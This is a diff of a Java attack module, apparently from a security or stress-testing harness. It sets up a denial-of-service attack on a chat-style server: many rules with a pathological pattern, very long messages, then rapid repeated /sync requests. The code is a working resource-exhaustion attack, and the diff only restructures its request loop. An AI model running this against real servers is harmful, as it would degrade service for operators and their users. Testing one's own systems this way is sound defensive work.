@@ -1,6 +1,7 @@
 package org.bongsu.attack;
 
 import java.io.IOException;
+import java.time.Duration;
 import org.bongsu.client.Http;
 import org.bongsu.json.Json;
 import tools.jackson.databind.node.ObjectNode;
@@ -11,8 +12,6 @@ final class PatternRules implements Attack {
   private static final int MESSAGES = 20;
   private static final String PATTERN = "?".repeat(200) + "b*";
   private static final String BODY = "a".repeat(30_000);
-
-  private Target.Account attacker = new Target.Account("", "");
 
   @Override
   public String name() {
@@ -25,8 +24,8 @@ final class PatternRules implements Attack {
   }
 
   @Override
-  public void prepare(Target target) throws IOException, InterruptedException {
-    attacker = target.register("ruler");
+  public Assault prepare(Target target) throws IOException, InterruptedException {
+    Target.Account attacker = target.register("ruler");
     Target.Account other = target.register("writer");
     for (int i = 0; i < RULES; i++) {
       ObjectNode rule = Json.object().put("pattern", PATTERN + i);
@@ -44,13 +43,10 @@ final class PatternRules implements Attack {
     for (int i = 0; i < MESSAGES; i++) {
       target.ask(Target.message(other, room, "t" + i, BODY));
     }
-  }
-
-  @Override
-  public void run(Target target) throws IOException, InterruptedException {
-    while (true) {
-      target.ask("GET", Http.CLIENT + "/sync?timeout=0", attacker.token(), null);
-      Thread.sleep(20);
-    }
+    return new RepeatedRequests(
+        target,
+        1,
+        Duration.ofMillis(20),
+        i -> Http.Ask.json("GET", Http.CLIENT + "/sync?timeout=0", attacker.token(), null));
   }
 }
